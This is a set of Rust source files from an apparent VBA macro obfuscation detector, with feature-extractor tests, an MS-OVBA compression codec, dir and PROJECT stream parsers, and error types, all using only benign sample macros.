        let is_call_open = matches!(tokens[i].kind, SpanKind::Identifier)
            && matches!(
                tokens.get(i + 1).map(|t| t.kind),
                Some(SpanKind::Operator("("))
            );
        if !is_call_open {
            i += 1;
            continue;
        }
        // Find the matching close paren, collecting top-level comma splits.
        let open = i + 1;
        let mut depth = 0usize;
        let mut arg_start = tokens[open].end;
        let mut j = open;
        let mut spans: Vec<(usize, usize)> = Vec::new();
        let mut closed = false;
        while j < tokens.len() {
            match tokens[j].kind {
                SpanKind::Operator("(") => depth += 1,
                SpanKind::Operator(")") => {
                    depth -= 1;
                    if depth == 0 {
                        spans.push((arg_start, tokens[j].start));
                        closed = true;
                        break;
                    }
                }
                SpanKind::Operator(",") if depth == 1 => {
                    spans.push((arg_start, tokens[j].start));
                    arg_start = tokens[j].end;
                }
                _ => {}
            }
            j += 1;
        }
        if closed {
            for (s, e) in spans {
                let text = source[s..e].trim();
                if !text.is_empty() {
                    out.push(text.chars().count() as f64);
                }
            }
            i = j + 1;
        } else {
            i += 1;
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn human_readable_heuristic() {
        for w in ["hello", "Program", "counter", "open"] {
            assert!(is_human_readable(w), "{w}");
        }
        for w in ["xqzptvk", "ueiwjfdjkfdsv", "a", "x1b2", "abcdefghijklmnop"] {
            assert!(!is_human_readable(w), "{w}");
        }
    }
}
