//! Property-based tests for the feature extractors: totality, ranges, and
//! the documented monotonic responses to each obfuscation mechanism.

use proptest::prelude::*;
use vbadet_features::{j_features, shannon_entropy, v_features};

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    /// Both extractors are total and produce finite values on any text.
    #[test]
    fn extractors_total_and_finite(src in "\\PC{0,3000}") {
        let v = v_features(&src);
        let j = j_features(&src);
        prop_assert!(v.iter().all(|x| x.is_finite()));
        prop_assert!(j.iter().all(|x| x.is_finite()));
    }

    /// Ratio-typed features stay in [0, 1].
    #[test]
    fn ratio_features_bounded(src in "[ -~\r\n]{0,2000}") {
        let v = v_features(&src);
        // V6 (% string chars), V8..V12 (call ratios).
        for idx in [5usize, 7, 8, 9, 10, 11] {
            prop_assert!((0.0..=1.0).contains(&v[idx]), "V{} = {}", idx + 1, v[idx]);
        }
        let j = j_features(&src);
        // J5, J6, J13, J14, J16, J17, J19 are shares.
        for idx in [4usize, 5, 12, 13, 15, 16, 18] {
            prop_assert!((0.0..=1.0 + 1e-9).contains(&j[idx]), "J{} = {}", idx + 1, j[idx]);
        }
    }

    /// Entropy is bounded by log2 of the alphabet size and insensitive to
    /// permutation.
    #[test]
    fn entropy_properties(src in "[a-p]{1,400}") {
        let h = shannon_entropy(&src);
        prop_assert!((0.0..=4.0 + 1e-9).contains(&h), "h={h}");
        let mut chars: Vec<char> = src.chars().collect();
        chars.reverse();
        let reversed: String = chars.into_iter().collect();
        prop_assert!((h - shannon_entropy(&reversed)).abs() < 1e-9);
    }

    /// V1+V2 never exceed the total character count, and comments raise V2.
    #[test]
    fn v1_v2_partition(code in "[ -~]{0,200}", comment in "[ -~]{1,100}") {
        let src = format!("{code}\r\n' {comment}\r\n");
        let v = v_features(&src);
        let total = src.chars().count() as f64;
        prop_assert!(v[0] + v[1] <= total + 1e-9, "{} + {} > {}", v[0], v[1], total);
        prop_assert!(v[1] >= comment.chars().count() as f64 - 1.0);
    }

    /// Splitting a string strictly increases V5 (operator frequency).
    #[test]
    fn split_increases_v5(value in "[a-z]{8,30}") {
        let plain = format!("Sub A()\r\n    x = \"{value}\"\r\nEnd Sub\r\n");
        let mid = value.len() / 2;
        let split = format!(
            "Sub A()\r\n    x = \"{}\" & \"{}\"\r\nEnd Sub\r\n",
            &value[..mid],
            &value[mid..]
        );
        prop_assert!(v_features(&split)[4] > v_features(&plain)[4]);
    }

    /// Longer identifiers raise V14.
    #[test]
    fn identifier_length_raises_v14(short in "[a-z]{2,4}", long in "[a-z]{12,16}") {
        let a = v_features(&format!("Dim {short}\r\n"));
        let b = v_features(&format!("Dim {long}\r\n"));
        prop_assert!(b[13] > a[13]);
    }

    /// J counts match construction: lines, strings, comments.
    #[test]
    fn j_counts_match(
        lines in 1usize..20,
        strings in 0usize..8,
        comments in 0usize..5,
    ) {
        let mut src = String::new();
        for i in 0..lines {
            src.push_str(&format!("x{i} = {i}\r\n"));
        }
        for i in 0..strings {
            src.push_str(&format!("s{i} = \"value{i}\"\r\n"));
        }
        for i in 0..comments {
            src.push_str(&format!("' comment number {i}\r\n"));
        }
        let j = j_features(&src);
        prop_assert_eq!(j[2] as usize, lines + strings + comments, "J3 lines");
        prop_assert_eq!(j[3] as usize, strings, "J4 strings");
        prop_assert_eq!(j[9] as usize, comments, "J10 comments");
    }
}
