//! Property-based tests for the MS-OVBA codec and project roundtrip.

use proptest::prelude::*;
use vbadet_ovba::{
    compress, decompress, DirStream, ModuleRecord, ModuleType, VbaProject, VbaProjectBuilder,
};

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    /// decompress(compress(x)) == x for arbitrary bytes, including sizes
    /// around the 4096-byte chunk boundary.
    #[test]
    fn codec_roundtrip(data in proptest::collection::vec(any::<u8>(), 0..12_000)) {
        prop_assert_eq!(decompress(&compress(&data)).unwrap(), data);
    }

    /// Same for text-like (highly compressible) input.
    #[test]
    fn codec_roundtrip_text(lines in proptest::collection::vec("[ -~]{0,60}", 0..300)) {
        let text = lines.join("\r\n");
        prop_assert_eq!(decompress(&compress(text.as_bytes())).unwrap(), text.as_bytes());
    }

    /// Decompressor is total on garbage containers.
    #[test]
    fn decompress_total(mut data in proptest::collection::vec(any::<u8>(), 1..2_048)) {
        data[0] = 0x01;
        let _ = decompress(&data);
    }

    /// dir stream serialize/parse preserves project and module metadata.
    #[test]
    fn dir_stream_roundtrip(
        name in "[A-Za-z][A-Za-z0-9_]{0,20}",
        modules in proptest::collection::vec(
            ("[A-Za-z][A-Za-z0-9_]{0,20}", 0u32..100_000, any::<bool>(), any::<bool>(), any::<bool>()),
            0..8,
        ),
    ) {
        let dir = DirStream {
            name,
            modules: modules
                .into_iter()
                .map(|(mname, off, doc, ro, priv_)| ModuleRecord {
                    stream_name: mname.clone(),
                    name: mname,
                    text_offset: off,
                    module_type: if doc { ModuleType::Document } else { ModuleType::Procedural },
                    read_only: ro,
                    private: priv_,
                })
                .collect(),
            ..DirStream::default()
        };
        let parsed = DirStream::parse(&dir.serialize()).unwrap();
        prop_assert_eq!(parsed, dir);
    }

    /// Build-then-extract returns every module byte-for-byte.
    #[test]
    fn project_roundtrip(
        modules in proptest::collection::vec(
            ("[A-Za-z][A-Za-z0-9]{0,18}", "[ -~\r\n]{0,2000}"),
            1..6,
        ),
    ) {
        // Unique module names (duplicate stream paths are rejected by OLE).
        let mut seen = std::collections::HashSet::new();
        let modules: Vec<_> = modules
            .into_iter()
            .filter(|(n, _)| seen.insert(n.to_uppercase()))
            .collect();
        prop_assume!(!modules.is_empty());

        let mut builder = VbaProjectBuilder::new("PropProject");
        for (name, code) in &modules {
            builder.add_module(name, code);
        }
        let bin = builder.build().unwrap();
        let ole = vbadet_ole::OleFile::parse(&bin).unwrap();
        let project = VbaProject::from_ole(&ole).unwrap();
        prop_assert_eq!(project.modules.len(), modules.len());
        for ((name, code), module) in modules.iter().zip(project.modules.iter()) {
            prop_assert_eq!(&module.name, name);
            prop_assert_eq!(&module.code, code);
        }
    }
}
