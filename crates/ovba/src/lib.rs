//! [MS-OVBA] VBA project storage: compression codec, `dir` stream records,
//! and whole-project reading/writing on top of [`vbadet_ole`].
//!
//! A VBA project lives inside an OLE compound file (either a standalone
//! `vbaProject.bin` for OOXML documents, or under a storage such as `Macros`
//! in a legacy `.doc`). The project's `VBA/dir` stream and every module's
//! source code are stored in the MS-OVBA *CompressedContainer* format — an
//! LZ77 variant with 4096-byte independent chunks.
//!
//! This crate implements:
//! - [`compression`]: the container codec, both directions;
//! - [`dir`]: the `dir` stream record format (project + module records);
//! - [`project`]: [`VbaProject`] extraction (the olevba-equivalent used by
//!   the detector) and [`VbaProjectBuilder`] synthesis (used by the corpus
//!   generator, so extraction is exercised against real container bytes).
//!
//! # Examples
//!
//! ```
//! use vbadet_ovba::{VbaProject, VbaProjectBuilder};
//!
//! # fn main() -> Result<(), Box<dyn std::error::Error>> {
//! let mut builder = VbaProjectBuilder::new("VBAProject");
//! builder.add_module("Module1", "Sub Hello()\r\n    MsgBox \"hi\"\r\nEnd Sub\r\n");
//! let bin = builder.build()?; // vbaProject.bin bytes
//!
//! let ole = vbadet_ole::OleFile::parse(&bin)?;
//! let project = VbaProject::from_ole(&ole)?;
//! assert_eq!(project.modules[0].name, "Module1");
//! assert!(project.modules[0].code.contains("MsgBox"));
//! # Ok(())
//! # }
//! ```

pub mod compression;
pub mod dir;
mod error;
pub mod project;
pub mod project_stream;
pub mod salvage;

pub use compression::{
    compress, decompress, decompress_budgeted, decompress_salvage, decompress_salvage_budgeted,
    decompress_with_limit, DEFAULT_MAX_DECOMPRESSED,
};
pub use dir::{DirStream, ModuleRecord, ModuleType};
pub use error::OvbaError;
pub use project::{OvbaLimits, VbaModule, VbaProject, VbaProjectBuilder};
pub use project_stream::{ProjectModuleRef, ProjectStream};
pub use salvage::{
    salvage_modules_from_bytes, salvage_modules_from_bytes_budgeted, salvage_modules_from_ole,
    salvage_modules_from_ole_budgeted,
};
pub use vbadet_faultpoint::{Budget, BudgetExceeded};
