//! The textual `PROJECT` stream (MS-OVBA §2.3.1): `Name=Value` properties
//! plus module declarations. olevba parses it as a fallback when the binary
//! `dir` stream is damaged; this crate does the same.

use crate::OvbaError;

/// A module declaration from the PROJECT stream.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ProjectModuleRef {
    /// `Module=Name` — a procedural module.
    Procedural(String),
    /// `Document=Name/&HXXXXXXXX` — a document module.
    Document(String),
    /// `Class=Name` — a class module.
    Class(String),
    /// `BaseClass=Name` — a designer (form) module.
    Designer(String),
}

impl ProjectModuleRef {
    /// The module's name regardless of kind.
    pub fn name(&self) -> &str {
        match self {
            ProjectModuleRef::Procedural(n)
            | ProjectModuleRef::Document(n)
            | ProjectModuleRef::Class(n)
            | ProjectModuleRef::Designer(n) => n,
        }
    }
}

/// Parsed `PROJECT` stream.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct ProjectStream {
    /// `Name="…"` property.
    pub name: Option<String>,
    /// `ID="{guid}"` property.
    pub id: Option<String>,
    /// Module declarations, in order.
    pub modules: Vec<ProjectModuleRef>,
    /// `HelpContextID` property.
    pub help_context_id: Option<String>,
    /// All other `Key=Value` properties, in order.
    pub properties: Vec<(String, String)>,
}

impl ProjectStream {
    /// Parses the PROJECT stream text (MBCS decoded as Latin-1 upstream).
    ///
    /// # Errors
    ///
    /// Returns [`OvbaError::BadDirRecord`] when no property lines at all are
    /// present (arbitrary binary data).
    pub fn parse(text: &str) -> Result<Self, OvbaError> {
        let mut out = ProjectStream::default();
        let mut any = false;
        let mut in_section = false;
        for line in text.lines() {
            let line = line.trim();
            if line.starts_with('[') {
                // Section headers like [Host Extender Info] and
                // [Workspace] begin the non-property tail.
                in_section = true;
            }
            if line.is_empty() || in_section {
                continue;
            }
            let Some((key, value)) = line.split_once('=') else {
                continue;
            };
            any = true;
            let key = key.trim();
            let value = value.trim();
            match key.to_ascii_lowercase().as_str() {
                "name" => out.name = Some(unquote(value)),
                "id" => out.id = Some(unquote(value)),
                "helpcontextid" => out.help_context_id = Some(unquote(value)),
                "module" => out
                    .modules
                    .push(ProjectModuleRef::Procedural(value.to_string())),
                "document" => {
                    let name = value.split('/').next().unwrap_or(value);
                    out.modules
                        .push(ProjectModuleRef::Document(name.to_string()));
                }
                "class" => out.modules.push(ProjectModuleRef::Class(value.to_string())),
                "baseclass" => out
                    .modules
                    .push(ProjectModuleRef::Designer(value.to_string())),
                _ => out.properties.push((key.to_string(), value.to_string())),
            }
        }
        if !any {
            return Err(OvbaError::BadDirRecord {
                id: 0,
                reason: "PROJECT stream has no properties",
            });
        }
        Ok(out)
    }

    /// Names of all declared modules.
    pub fn module_names(&self) -> Vec<&str> {
        self.modules.iter().map(|m| m.name()).collect()
    }
}

fn unquote(value: &str) -> String {
    value.trim_matches('"').to_string()
}

#[cfg(test)]
mod tests {
    use super::*;

    const SAMPLE: &str = "ID=\"{00000000-1111-2222-3333-444444444444}\"\r\n\
        Document=ThisDocument/&H00000000\r\n\
        Module=Module1\r\n\
        Module=Helpers\r\n\
        Class=CBudget\r\n\
        BaseClass=UserForm1\r\n\
        Name=\"VBAProject\"\r\n\
        HelpContextID=\"0\"\r\n\
        VersionCompatible32=\"393222000\"\r\n\
        CMG=\"AABB\"\r\n\
        \r\n\
        [Host Extender Info]\r\n\
        &H00000001={3832D640-CF90-11CF-8E43-00A0C911005A};VBE;&H00000000\r\n";

    #[test]
    fn parses_all_declaration_kinds() {
        let p = ProjectStream::parse(SAMPLE).unwrap();
        assert_eq!(p.name.as_deref(), Some("VBAProject"));
        assert_eq!(
            p.id.as_deref(),
            Some("{00000000-1111-2222-3333-444444444444}")
        );
        assert_eq!(
            p.modules,
            vec![
                ProjectModuleRef::Document("ThisDocument".into()),
                ProjectModuleRef::Procedural("Module1".into()),
                ProjectModuleRef::Procedural("Helpers".into()),
                ProjectModuleRef::Class("CBudget".into()),
                ProjectModuleRef::Designer("UserForm1".into()),
            ]
        );
        assert_eq!(
            p.module_names(),
            vec!["ThisDocument", "Module1", "Helpers", "CBudget", "UserForm1"]
        );
        // Unknown keys preserved.
        assert!(p.properties.iter().any(|(k, _)| k == "VersionCompatible32"));
    }

    #[test]
    fn section_tail_is_ignored() {
        let p = ProjectStream::parse(SAMPLE).unwrap();
        assert!(!p.properties.iter().any(|(k, _)| k.starts_with("&H")));
    }

    #[test]
    fn our_builder_output_parses() {
        let mut b = crate::VbaProjectBuilder::new("RoundTrip");
        b.add_module("ThisDocument", "Sub X()\r\nEnd Sub\r\n")
            .document_module("ThisDocument");
        b.add_module("Module1", "Sub Y()\r\nEnd Sub\r\n");
        let bin = b.build().unwrap();
        let ole = vbadet_ole::OleFile::parse(&bin).unwrap();
        let text = ole.open_stream("PROJECT").unwrap();
        let text: String = text.iter().map(|&b| b as char).collect();
        let p = ProjectStream::parse(&text).unwrap();
        assert_eq!(p.name.as_deref(), Some("RoundTrip"));
        assert_eq!(p.module_names(), vec!["ThisDocument", "Module1"]);
    }

    #[test]
    fn garbage_rejected_without_panic() {
        assert!(ProjectStream::parse("").is_err());
        assert!(ProjectStream::parse("\u{1}\u{2}\u{3}").is_err());
        let _ = ProjectStream::parse("[Section]\r\nonly=one\r\n");
    }
}
