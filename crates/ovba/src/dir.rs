//! MS-OVBA §2.3.4.2 `dir` stream: project information, project references
//! and module records.
//!
//! The stream is a flat sequence of records (`u16` id, `u32` size, payload).
//! The parser is tolerant: unknown records are skipped, so projects written
//! by real Office builds (which include reference records we do not model)
//! still parse.

use crate::OvbaError;

/// Module kind (`MODULETYPE` record id).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Default)]
pub enum ModuleType {
    /// Procedural module (record 0x21) — a standard `Module`.
    #[default]
    Procedural,
    /// Document, class or designer module (record 0x22) — e.g.
    /// `ThisDocument`, `ThisWorkbook`, `Sheet1`.
    Document,
}

/// One module's metadata from the `dir` stream.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ModuleRecord {
    /// Module name (MBCS record 0x19).
    pub name: String,
    /// Name of the OLE stream holding this module's code (record 0x1A).
    pub stream_name: String,
    /// Byte offset of the compressed source within the module stream
    /// (record 0x31); bytes before it are the performance cache.
    pub text_offset: u32,
    /// Procedural vs document module.
    pub module_type: ModuleType,
    /// Whether the module is marked read-only (record 0x25).
    pub read_only: bool,
    /// Whether the module is marked private (record 0x28).
    pub private: bool,
}

/// Parsed project-level information from the `dir` stream.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DirStream {
    /// Target platform (record 0x01): 0 = 16-bit Win, 1 = 32-bit Win,
    /// 2 = Mac, 3 = 64-bit Win.
    pub syskind: u32,
    /// Locale id (record 0x02).
    pub lcid: u32,
    /// Code page for all MBCS strings (record 0x03).
    pub codepage: u16,
    /// Project name (record 0x04).
    pub name: String,
    /// Project doc string (record 0x05).
    pub doc_string: String,
    /// Help file path (record 0x06).
    pub help_file: String,
    /// Help context (record 0x07).
    pub help_context: u32,
    /// The project's modules, in record order.
    pub modules: Vec<ModuleRecord>,
}

impl Default for DirStream {
    fn default() -> Self {
        DirStream {
            syskind: 1,
            lcid: 0x0409,
            codepage: 1252,
            name: "VBAProject".to_string(),
            doc_string: String::new(),
            help_file: String::new(),
            help_context: 0,
            modules: Vec::new(),
        }
    }
}

/// Decodes an MBCS payload. We model code page 1252 as Latin-1, which is
/// exact for the ASCII subset every generated macro uses.
fn decode_mbcs(bytes: &[u8]) -> String {
    bytes.iter().map(|&b| b as char).collect()
}

fn encode_mbcs(s: &str) -> Vec<u8> {
    s.chars()
        .map(|c| if (c as u32) < 256 { c as u8 } else { b'?' })
        .collect()
}

fn encode_utf16(s: &str) -> Vec<u8> {
    s.encode_utf16().flat_map(|u| u.to_le_bytes()).collect()
}

impl DirStream {
    /// Parses an (already decompressed) `dir` stream.
    ///
    /// # Errors
    ///
    /// Fails on truncated records or when no module/name records are present.
    pub fn parse(data: &[u8]) -> Result<Self, OvbaError> {
        let mut dir = DirStream::default();
        let mut pos = 0usize;
        let mut current_module: Option<ModuleRecord> = None;
        let mut saw_name = false;

        while pos + 6 <= data.len() {
            let id = u16::from_le_bytes([data[pos], data[pos + 1]]);
            let mut size =
                u32::from_le_bytes([data[pos + 2], data[pos + 3], data[pos + 4], data[pos + 5]])
                    as usize;
            // PROJECTVERSION (0x09): the size field is a reserved constant 4
            // but the payload is actually 6 bytes (u32 major + u16 minor).
            if id == 0x09 {
                size = 6;
            }
            pos += 6;
            if pos + size > data.len() {
                return Err(OvbaError::BadDirRecord {
                    id,
                    reason: "record overruns stream",
                });
            }
            let payload = &data[pos..pos + size];
            pos += size;

            match id {
                0x01 => {
                    dir.syskind = read_u32(payload, id, "syskind")?;
                }
                0x02 => {
                    dir.lcid = read_u32(payload, id, "lcid")?;
                }
                0x03 => {
                    if payload.len() < 2 {
                        return Err(OvbaError::BadDirRecord {
                            id,
                            reason: "short codepage",
                        });
                    }
                    dir.codepage = u16::from_le_bytes([payload[0], payload[1]]);
                }
                0x04 => {
                    dir.name = decode_mbcs(payload);
                    saw_name = true;
                }
                0x05 => {
                    dir.doc_string = decode_mbcs(payload);
                }
                0x06 => {
                    dir.help_file = decode_mbcs(payload);
                }
                0x07 => {
                    dir.help_context = read_u32(payload, id, "help context")?;
                }
                0x19 => {
                    // New module begins; flush any previous one.
                    if let Some(m) = current_module.take() {
                        dir.modules.push(m);
                    }
                    current_module = Some(ModuleRecord {
                        name: decode_mbcs(payload),
                        stream_name: String::new(),
                        text_offset: 0,
                        module_type: ModuleType::Procedural,
                        read_only: false,
                        private: false,
                    });
                }
                0x1A => {
                    if let Some(m) = current_module.as_mut() {
                        m.stream_name = decode_mbcs(payload);
                    }
                }
                0x31 => {
                    if let Some(m) = current_module.as_mut() {
                        m.text_offset = read_u32(payload, id, "module offset")?;
                    }
                }
                0x21 => {
                    if let Some(m) = current_module.as_mut() {
                        m.module_type = ModuleType::Procedural;
                    }
                }
                0x22 => {
                    if let Some(m) = current_module.as_mut() {
                        m.module_type = ModuleType::Document;
                    }
                }
                0x25 => {
                    if let Some(m) = current_module.as_mut() {
                        m.read_only = true;
                    }
                }
                0x28 => {
                    if let Some(m) = current_module.as_mut() {
                        m.private = true;
                    }
                }
                0x2B => {
                    // Module terminator.
                    if let Some(m) = current_module.take() {
                        dir.modules.push(m);
                    }
                }
                0x10 => {
                    // dir terminator.
                    break;
                }
                _ => { /* tolerated: references, unicode mirrors, cookies… */ }
            }
        }
        if let Some(m) = current_module.take() {
            dir.modules.push(m);
        }
        if !saw_name && dir.modules.is_empty() {
            return Err(OvbaError::MissingDirRecord("PROJECTNAME/MODULE"));
        }
        Ok(dir)
    }

    /// Serializes this structure to (uncompressed) `dir` stream bytes,
    /// mirroring the record layout Office writes.
    pub fn serialize(&self) -> Vec<u8> {
        let mut out = Vec::new();
        let rec = |out: &mut Vec<u8>, id: u16, payload: &[u8]| {
            out.extend_from_slice(&id.to_le_bytes());
            out.extend_from_slice(&(payload.len() as u32).to_le_bytes());
            out.extend_from_slice(payload);
        };

        // PROJECTINFORMATION.
        rec(&mut out, 0x01, &self.syskind.to_le_bytes());
        rec(&mut out, 0x02, &self.lcid.to_le_bytes());
        rec(&mut out, 0x14, &self.lcid.to_le_bytes()); // LCIDINVOKE
        rec(&mut out, 0x03, &self.codepage.to_le_bytes());
        rec(&mut out, 0x04, &encode_mbcs(&self.name));
        // DOCSTRING: MBCS record + 0x40 unicode mirror.
        rec(&mut out, 0x05, &encode_mbcs(&self.doc_string));
        rec(&mut out, 0x40, &encode_utf16(&self.doc_string));
        // HELPFILE: two MBCS copies (0x06, 0x3D).
        rec(&mut out, 0x06, &encode_mbcs(&self.help_file));
        rec(&mut out, 0x3D, &encode_mbcs(&self.help_file));
        rec(&mut out, 0x07, &self.help_context.to_le_bytes());
        rec(&mut out, 0x08, &0u32.to_le_bytes()); // LIBFLAGS
                                                  // PROJECTVERSION: reserved size field 4, 6 payload bytes.
        out.extend_from_slice(&0x09u16.to_le_bytes());
        out.extend_from_slice(&4u32.to_le_bytes());
        out.extend_from_slice(&1u32.to_le_bytes()); // version major
        out.extend_from_slice(&0u16.to_le_bytes()); // version minor
                                                    // CONSTANTS: MBCS + unicode mirror.
        rec(&mut out, 0x0C, b"");
        rec(&mut out, 0x3C, b"");

        // PROJECTMODULES header.
        rec(&mut out, 0x0F, &(self.modules.len() as u16).to_le_bytes());
        rec(&mut out, 0x13, &0xFFFFu16.to_le_bytes()); // PROJECTCOOKIE

        for module in &self.modules {
            rec(&mut out, 0x19, &encode_mbcs(&module.name));
            rec(&mut out, 0x47, &encode_utf16(&module.name)); // NAMEUNICODE
            rec(&mut out, 0x1A, &encode_mbcs(&module.stream_name));
            rec(&mut out, 0x32, &encode_utf16(&module.stream_name));
            rec(&mut out, 0x1C, b""); // MODULEDOCSTRING
            rec(&mut out, 0x48, b"");
            rec(&mut out, 0x31, &module.text_offset.to_le_bytes());
            rec(&mut out, 0x1E, &0u32.to_le_bytes()); // MODULEHELPCONTEXT
            rec(&mut out, 0x2C, &0xFFFFu16.to_le_bytes()); // MODULECOOKIE
            let type_id = match module.module_type {
                ModuleType::Procedural => 0x21u16,
                ModuleType::Document => 0x22u16,
            };
            rec(&mut out, type_id, b"");
            if module.read_only {
                rec(&mut out, 0x25, b"");
            }
            if module.private {
                rec(&mut out, 0x28, b"");
            }
            rec(&mut out, 0x2B, b""); // module terminator
        }

        rec(&mut out, 0x10, b""); // dir terminator
        out
    }
}

fn read_u32(payload: &[u8], id: u16, what: &'static str) -> Result<u32, OvbaError> {
    if payload.len() < 4 {
        return Err(OvbaError::BadDirRecord { id, reason: what });
    }
    Ok(u32::from_le_bytes([
        payload[0], payload[1], payload[2], payload[3],
    ]))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample() -> DirStream {
        DirStream {
            syskind: 3,
            lcid: 0x0409,
            codepage: 1252,
            name: "TestProject".to_string(),
            doc_string: "a doc string".to_string(),
            help_file: String::new(),
            help_context: 7,
            modules: vec![
                ModuleRecord {
                    name: "ThisDocument".to_string(),
                    stream_name: "ThisDocument".to_string(),
                    text_offset: 0,
                    module_type: ModuleType::Document,
                    read_only: false,
                    private: false,
                },
                ModuleRecord {
                    name: "Module1".to_string(),
                    stream_name: "Module1".to_string(),
                    text_offset: 1234,
                    module_type: ModuleType::Procedural,
                    read_only: true,
                    private: true,
                },
            ],
        }
    }

    #[test]
    fn serialize_parse_roundtrip() {
        let dir = sample();
        let parsed = DirStream::parse(&dir.serialize()).unwrap();
        assert_eq!(parsed, dir);
    }

    #[test]
    fn empty_project_roundtrips() {
        let dir = DirStream::default();
        let parsed = DirStream::parse(&dir.serialize()).unwrap();
        assert_eq!(parsed.name, "VBAProject");
        assert!(parsed.modules.is_empty());
    }

    #[test]
    fn unknown_records_are_skipped() {
        let mut bytes = Vec::new();
        // Unknown record 0x7777 before a valid stream.
        bytes.extend_from_slice(&0x7777u16.to_le_bytes());
        bytes.extend_from_slice(&3u32.to_le_bytes());
        bytes.extend_from_slice(b"xyz");
        bytes.extend_from_slice(&sample().serialize());
        let parsed = DirStream::parse(&bytes).unwrap();
        assert_eq!(parsed.modules.len(), 2);
    }

    #[test]
    fn truncated_record_rejected() {
        let mut bytes = sample().serialize();
        // Chop inside the last record's payload... extend with a record that
        // promises more bytes than remain.
        bytes.extend_from_slice(&0x04u16.to_le_bytes());
        bytes.extend_from_slice(&100u32.to_le_bytes());
        bytes.extend_from_slice(b"short");
        // The 0x10 terminator inside `bytes` stops parsing before the bad
        // tail, so this still parses; strip the terminator to expose it.
        let clean = sample().serialize();
        let without_term = &clean[..clean.len() - 6];
        let mut bad = without_term.to_vec();
        bad.extend_from_slice(&0x04u16.to_le_bytes());
        bad.extend_from_slice(&100u32.to_le_bytes());
        bad.extend_from_slice(b"short");
        assert!(DirStream::parse(&bad).is_err());
    }

    #[test]
    fn version_record_six_byte_quirk() {
        // A stream consisting of NAME + VERSION + terminator must parse, and
        // the 6-byte version payload must not desynchronize the reader.
        let mut bytes = Vec::new();
        bytes.extend_from_slice(&0x04u16.to_le_bytes());
        bytes.extend_from_slice(&4u32.to_le_bytes());
        bytes.extend_from_slice(b"Proj");
        bytes.extend_from_slice(&0x09u16.to_le_bytes());
        bytes.extend_from_slice(&4u32.to_le_bytes());
        bytes.extend_from_slice(&[9, 9, 9, 9, 7, 7]); // u32 + u16
        bytes.extend_from_slice(&0x10u16.to_le_bytes());
        bytes.extend_from_slice(&0u32.to_le_bytes());
        let parsed = DirStream::parse(&bytes).unwrap();
        assert_eq!(parsed.name, "Proj");
    }

    #[test]
    fn garbage_never_panics() {
        let mut state = 3141u64;
        for len in [0usize, 1, 5, 6, 7, 64, 500] {
            for _ in 0..60 {
                let data: Vec<u8> = (0..len)
                    .map(|_| {
                        state ^= state << 13;
                        state ^= state >> 7;
                        state ^= state << 17;
                        state as u8
                    })
                    .collect();
                let _ = DirStream::parse(&data);
            }
        }
    }
}
