use std::error::Error;
use std::fmt;

use vbadet_faultpoint::BudgetExceeded;

/// Errors produced while decoding MS-OVBA structures.
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub enum OvbaError {
    /// The compressed container does not start with the 0x01 signature byte.
    BadContainerSignature(u8),
    /// A chunk header carries the wrong signature bits (must be 0b011).
    BadChunkSignature(u16),
    /// The compressed stream ends mid-structure.
    TruncatedContainer,
    /// A copy token references data before the start of the output.
    BadCopyToken { offset: usize, position: usize },
    /// A chunk decompressed to more than 4096 bytes.
    ChunkOverflow,
    /// A `dir` stream record is malformed.
    BadDirRecord { id: u16, reason: &'static str },
    /// The `dir` stream is missing a required record.
    MissingDirRecord(&'static str),
    /// The OLE file does not contain a recognizable VBA project.
    NoVbaProject,
    /// A module's stream is missing from the OLE file.
    MissingModuleStream(String),
    /// A module's text offset lies beyond its stream.
    BadModuleOffset {
        module: String,
        offset: u32,
        stream_len: usize,
    },
    /// A configured resource limit was exceeded (decompressed size, module
    /// count…). Distinguished from malformed-structure errors so callers can
    /// report capped inputs as a typed outcome.
    LimitExceeded { what: &'static str, limit: usize },
    /// The caller's scan budget (wall-clock deadline or fuel allowance)
    /// tripped mid-extraction; says nothing about the input's structure.
    DeadlineExceeded(BudgetExceeded),
    /// Error from the underlying OLE layer.
    Ole(vbadet_ole::OleError),
}

impl From<BudgetExceeded> for OvbaError {
    fn from(why: BudgetExceeded) -> Self {
        OvbaError::DeadlineExceeded(why)
    }
}

impl fmt::Display for OvbaError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            OvbaError::BadContainerSignature(b) => {
                write!(
                    f,
                    "compressed container signature is {b:#04x}, expected 0x01"
                )
            }
            OvbaError::BadChunkSignature(h) => {
                write!(f, "chunk header {h:#06x} has invalid signature bits")
            }
            OvbaError::TruncatedContainer => write!(f, "compressed container is truncated"),
            OvbaError::BadCopyToken { offset, position } => {
                write!(
                    f,
                    "copy token offset {offset} at position {position} underflows output"
                )
            }
            OvbaError::ChunkOverflow => write!(f, "chunk decompresses beyond 4096 bytes"),
            OvbaError::BadDirRecord { id, reason } => {
                write!(f, "malformed dir record {id:#06x}: {reason}")
            }
            OvbaError::MissingDirRecord(name) => write!(f, "dir stream missing record: {name}"),
            OvbaError::NoVbaProject => write!(f, "no VBA project found in compound file"),
            OvbaError::MissingModuleStream(name) => write!(f, "missing module stream: {name}"),
            OvbaError::BadModuleOffset {
                module,
                offset,
                stream_len,
            } => write!(
                f,
                "module {module}: text offset {offset} beyond stream length {stream_len}"
            ),
            OvbaError::LimitExceeded { what, limit } => {
                write!(f, "resource limit exceeded: {what} (limit {limit})")
            }
            OvbaError::DeadlineExceeded(why) => write!(f, "scan budget exceeded: {why}"),
            OvbaError::Ole(e) => write!(f, "ole error: {e}"),
        }
    }
}

impl Error for OvbaError {
    fn source(&self) -> Option<&(dyn Error + 'static)> {
        match self {
            OvbaError::Ole(e) => Some(e),
            _ => None,
        }
    }
}

impl From<vbadet_ole::OleError> for OvbaError {
    fn from(e: vbadet_ole::OleError) -> Self {
        // A budget trip in the OLE layer is still a budget trip here: keep
        // it typed so callers can classify timeouts without unwrapping.
        match e {
            vbadet_ole::OleError::DeadlineExceeded(why) => OvbaError::DeadlineExceeded(why),
            other => OvbaError::Ole(other),
        }
    }
}
